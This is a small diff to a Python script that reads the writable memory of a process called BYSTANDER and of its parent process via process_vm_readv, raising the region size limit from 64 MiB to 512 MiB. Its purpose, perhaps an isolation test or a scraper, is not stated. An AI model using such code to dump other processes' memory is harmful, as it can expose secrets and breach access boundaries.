@@ -20,7 +20,7 @@ for pid in {BYSTANDER, os.getppid()}:
         continue
     for line in lines:
         start, end = (int(part, 16) for part in line.split()[0].split("-"))
-        if " rw" in line and end - start < 64 << 20:
+        if " rw" in line and end - start < 512 << 20:
             buffer = ctypes.create_string_buffer(end - start)
             here, there = Part(ctypes.addressof(buffer), end - start), Part(start, end - start)
             libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
